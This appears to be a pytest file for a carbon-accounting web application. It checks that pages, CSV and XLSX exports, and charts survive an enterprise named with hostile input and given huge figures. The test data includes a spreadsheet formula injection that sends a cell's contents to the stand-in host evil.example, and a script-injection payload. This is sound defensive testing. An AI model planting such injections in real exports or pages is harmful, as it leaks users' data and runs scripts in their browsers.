"""One enterprise's data never breaks a page, a report or a download, nor turns into markup or
a spreadsheet formula: a small province in which one enterprise is named like an attack and
submitted (not a draft) figures of 1e30 t."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import Engine, select, update

from carbonpeak.accounting.engine import TOTAL_COLUMNS
from carbonpeak.api.app import create_app
from carbonpeak.demo.province import generate_province, province_activity
from carbonpeak.services.access import Actor
from carbonpeak.services.accounting import submit
from carbonpeak.services.demo import DEMO_PASSWORD, load_province
from carbonpeak.store.db import make_engine, transaction, upgrade
from carbonpeak.store.models import AccountResult, Enterprise, User

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SCRIPT = "</script><script>alert(1)</script>"
HOSTILE = f"{FORMULA} {SCRIPT}"
HUGE = 1e30


@dataclass
class Hostile:
    engine: Engine
    enterprise: str  # the enterprise with the hostile name and the huge figures
    year: str


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    folder: Path = tmp_path_factory.mktemp("hostile")
    engine = make_engine(f"sqlite:///{folder / 'store.db'}")
    upgrade(engine)
    province = generate_province(seed=2030, enterprises=40)
    activity = province_activity(province).astype({"amount": str})
    with transaction(engine) as session:
        made = load_province(session, province, activity)
        code = made["demo_enterprise"]
        row = session.execute(
            select(Enterprise).where(Enterprise.enterprise_id == code)
        ).scalar_one()
        row.name = HOSTILE
    mine = activity[activity["enterprise_id"] == code].copy()
    year = str(mine["period"].max())
    mine = mine[mine["period"] == year]
    # the largest amount a report may carry (amounts past the world's yearly total are refused
    # on the way in), then figures far beyond it as a store could hold them from before that
    # check or from a method still to come: pages must survive both
    mine.loc[mine.index[0], "amount"] = "9e10"
    with transaction(engine) as session:
        user = session.execute(select(User).where(User.username == "demo-enterprise"))
        actor = Actor.of(user.scalar_one())
        done = submit(session, actor, mine.reset_index(drop=True), "huge.csv")
        assert done and done[0]["created"]
        session.execute(
            update(AccountResult)
            .where(AccountResult.submission_id == done[0]["submission_id"])
            .values({column: HUGE for column in TOTAL_COLUMNS})
        )
    yield Hostile(engine, code, year)
    engine.dispose()


def _client(hostile: Hostile, who: str) -> TestClient:
    client = TestClient(create_app(hostile.engine), raise_server_exceptions=False)
    response = client.post(
        "/login",
        data={"username": who, "password": DEMO_PASSWORD, "next": "/"},
        follow_redirects=False,
    )
    assert response.status_code == 303
    return client


def _pages(hostile: Hostile) -> list[str]:
    code = hostile.enterprise
    return [
        "/",
        "/overview",
        *(f"/overview?view={v}" for v in ("year", "industry", "region")),
        *(f"/overview/{v}.csv" for v in ("year", "industry", "region")),
        "/overview/report.pdf",
        "/overview/report.xlsx",
        "/enterprises",
        f"/enterprises?q={code}",
        f"/enterprises/{code}",
        f"/enterprises/{code}/streams.csv",
        f"/enterprises/{code}/report.pdf",
        f"/enterprises/{code}/report.xlsx",
        f"/enterprises/{code}/lines/2",
        "/industry",
        f"/industry?year={hostile.year}",
        f"/industry/grades.csv?year={hostile.year}",
        f"/industry/below-baseline.csv?year={hostile.year}",
        "/review",
        "/upload",
        "/pathways",
        "/caps",
        "/applications",
        "/opportunities",
        "/diagnosis",
        "/credits",
    ]


@pytest.mark.parametrize("who", ["demo-regulator", "demo-admin", "demo-enterprise"])
def test_every_page_and_report_survives_huge_figures(hostile: Hostile, who: str) -> None:
    client = _client(hostile, who)
    failed = {}
    for path in _pages(hostile):
        response = client.get(path)
        if response.status_code >= 500:
            failed[path] = response.status_code
    client.close()
    assert failed == {}


def test_no_download_carries_a_formula(hostile: Hostile) -> None:
    client = _client(hostile, "demo-regulator")
    code = hostile.enterprise
    seen = 0
    for path in (f"/enterprises/{code}/report.xlsx", "/overview/report.xlsx"):
        response = client.get(path)
        assert response.status_code == 200, path
        book = load_workbook(io.BytesIO(response.content))
        for sheet in book.worksheets:
            for line in sheet.iter_rows():
                for cell in line:
                    if isinstance(cell.value, str) and "HYPERLINK" in cell.value:
                        seen += 1
                        assert cell.data_type == "s", (path, sheet.title, cell.coordinate)
    assert seen >= 1  # the name is in the enterprise's report
    for path in (f"/enterprises/{code}/streams.csv", "/overview/region.csv"):
        response = client.get(path)
        assert response.status_code == 200, path
        for line in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))):
            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in line), path
    client.close()


def test_charts_carry_no_markup_and_still_parse(hostile: Hostile) -> None:
    from carbonpeak.pathways.projection import example_text

    client = _client(hostile, "demo-regulator")
    scenario = example_text().replace("BAU", json.dumps(SCRIPT))
    assert SCRIPT in scenario
    page = client.post("/pathways", data={"scenario": scenario, "draws": "50"})
    assert page.status_code == 200 and 'id="pathways-result"' in page.text
    assert "<script>alert" not in page.text
    blocks = dict(
        re.findall(
            r'<script type="application/json" id="(chart-[^"]*)">(.*?)</script>', page.text, re.S
        )
    )
    option = json.loads(blocks["chart-pathways"])  # the chart's option still reads as JSON
    assert any(s.get("name") == SCRIPT for s in option["series"])
    client.close()


def test_chart_json_escapes_script_context() -> None:
    from carbonpeak.web.site import environment

    text = environment.from_string("{{ value|json_script }}").render(
        value=json.dumps({"name": SCRIPT + " & \u2028\u2029"}, ensure_ascii=False)
    )
    assert "<" not in text and ">" not in text and "&" not in text
    assert "\u2028" not in text and "\u2029" not in text
    assert json.loads(text) == {"name": SCRIPT + " & \u2028\u2029"}


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (1e30, "1,000,000,000,000,000,000,000,000,000,000"),
        (-1e30, "-1,000,000,000,000,000,000,000,000,000,000"),
        (1e308, None),
        (float("nan"), "—"),
        (float("inf"), "—"),
        (float("-inf"), "—"),
    ],
)
def test_numbers_are_total(value: float, shown: str | None) -> None:
    from carbonpeak.i18n import number

    for locale in ("en", "zh_CN"):
        for digits in (0, 1, 3):
            text = number(value, locale, digits)
            assert text and "E" not in text.upper() and "NAN" not in text.upper()
            if shown is not None and digits == 0:
                assert text == shown


def test_charts_are_strict_json_whatever_the_figures() -> None:
    from carbonpeak.web.charts import streams_chart

    def strict(constant: str) -> None:
        raise AssertionError(f"{constant} is not JSON")

    rows = [("a", "a", float("nan")), ("b", "b", float("inf")), ("c", "c", 1e30)]
    option = json.loads(streams_chart(rows), parse_constant=strict)
    assert option["series"][0]["data"] == [1e30, None, None]
